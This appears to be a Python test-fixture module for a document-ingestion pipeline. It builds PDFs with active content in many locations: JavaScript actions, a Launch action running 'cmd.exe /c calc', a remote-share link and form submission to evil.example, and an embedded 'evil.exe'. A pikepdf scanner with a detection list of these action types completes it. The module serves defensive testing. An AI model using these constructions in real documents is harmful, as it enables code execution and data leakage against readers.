"""PDFs that want to act: scripts, programs to launch, files inside, addresses to call."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pikepdf

from tests.ingest.files import stream
from tests.ingest.hostile.pdf_shapes import one_page

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
REMOTE = b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>"
SUBMIT = b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>"
EMBEDDED = b"<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 6 0 R>>>>"
LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 500 500]/A %s>>"
WORDS = b"BT /F 12 Tf 5 200 Td (Some words that a program wrote here) Tj ET"
HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
CLAIM = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
    b'xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/"><pdfaid:part>2</pdfaid:part>'
    b"<pdfaid:conformance>B</pdfaid:conformance></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end='w'?>"
)
"""What a file says that calls itself PDF/A-2b."""


def acting(*, catalogue: bytes = b"", page: bytes = b"", words: bool = False, claims: bool = False) -> bytes:
    """A page that is drawn, or written in a font that is not in the file, with what acts on it.

    Objects: 5 the font, 6 a file inside, 7 bookmarks with a script, 8 a bookmark, 9 metadata.
    """
    inside = stream(b"/Type/EmbeddedFile", b"MZ a program")
    outlines = b"<</Type/Outlines/First 8 0 R/Last 8 0 R/Count 1>>"
    bookmark = b"<</Title(a)/Parent 7 0 R/A %s>>" % SCRIPT
    metadata = stream(b"/Type/Metadata/Subtype/XML", CLAIM)
    return one_page(
        HELVETICA, inside, outlines, bookmark, metadata,
        catalogue=catalogue + (b"/Metadata 9 0 R" if claims else b""),
        page=page,
        resources=b"/Font<</F 5 0 R>>" if words else b"",
        content=WORDS if words else b"0 0 1 rg 50 50 100 150 re f",
    )  # fmt: skip


PLACES: dict[str, dict[str, bytes]] = {
    "script at opening": {"catalogue": b"/OpenAction " + SCRIPT},
    "script by name": {"catalogue": b"/Names<</JavaScript<</Names[(a) %s]>>>>" % SCRIPT},
    "script at closing": {"catalogue": b"/AA<</WC %s/WP %s>>" % (SCRIPT, SCRIPT)},
    "script of a page": {"page": b"/AA<</O %s/C %s>>" % (SCRIPT, SCRIPT)},
    "script of a link": {"page": b"/Annots[%s]" % (LINK % SCRIPT)},
    "script of a bookmark": {"catalogue": b"/Outlines 7 0 R"},
    "script of a field": {
        "catalogue": b"/AcroForm<</Fields[<</T(a)/FT/Btn/AA<</K %s>>>>]/XFA(<xdp/>)/CO[]>>" % SCRIPT,
        "page": b"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 50 50]/A %s/AA<</E %s>>>>]"
        % (SCRIPT, SCRIPT),
    },
    "script behind a good step": {
        "page": b"/Annots[%s]" % (LINK % (b"<</S/URI/URI(http://example.vn)/Next %s>>" % SCRIPT))
    },
    "program to launch": {"catalogue": b"/OpenAction " + LAUNCH, "page": b"/Annots[%s]" % (LINK % LAUNCH)},
    "file of another machine": {"page": b"/Annots[%s]" % (LINK % REMOTE)},
    "form to submit": {"page": b"/Annots[%s]" % (LINK % SUBMIT)},
    "address that is a script": {"page": b"/Annots[%s]" % (LINK % b"<</S/URI/URI(javascript:alert\\(1\\))>>")},
    "file inside": {"catalogue": b"/Names<</EmbeddedFiles<</Names[(a) %s]>>>>/AF[%s]" % (EMBEDDED, EMBEDDED)},
    "file of a page": {
        "page": b"/AF[%s]/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS %s>>]" % (EMBEDDED, EMBEDDED)
    },
    "film on a page": {
        "page": b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a) %s]>>>>"
        b">>]" % EMBEDDED
    },
    "portfolio": {"catalogue": b"/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(a) %s]>>>>" % EMBEDDED},
}
"""Where what acts stands."""

ACTIONS: dict[str, Callable[[], bytes]] = {
    name: (lambda places=places: acting(**places))
    for name, places in PLACES.items()  # type: ignore[misc]
}


ACTING_KEYS = {
    "/JS",
    "/JavaScript",
    "/AA",
    "/OpenAction",
    "/EF",
    "/EmbeddedFiles",
    "/AF",
    "/XFA",
    "/AcroForm",
    "/Collection",
}
ACTING_TYPES = {
    "/JavaScript",
    "/Launch",
    "/GoToR",
    "/GoToE",
    "/SubmitForm",
    "/ImportData",
    "/Rendition",
    "/EmbeddedFile",
}


def actors_in(path: Path) -> list[str]:
    """What acts, or hides a file, in a PDF: in all that can be reached in it."""
    with pikepdf.open(path) as pdf:
        return sorted(set(_actors(pdf.trailer)))


def _actors(whole: pikepdf.Object) -> Iterator[str]:
    waiting: list[object] = [whole]
    seen: set[tuple[int, int]] = set()
    while waiting:
        one = waiting.pop()
        if not isinstance(one, pikepdf.Object) or (one.is_indirect and one.objgen in seen):
            continue
        seen.add(one.objgen)
        if isinstance(one, (pikepdf.Dictionary, pikepdf.Stream)):
            yield from ACTING_KEYS & set(one.keys())
            yield from ACTING_TYPES & {str(one.get("/S")), str(one.get("/Type")), str(one.get("/Subtype"))}
            if "javascript:" in str(one.get("/URI", "")):
                yield str(one.URI)
            waiting += [value for _, value in one.items()]
        elif isinstance(one, pikepdf.Array):
            waiting += list(one)
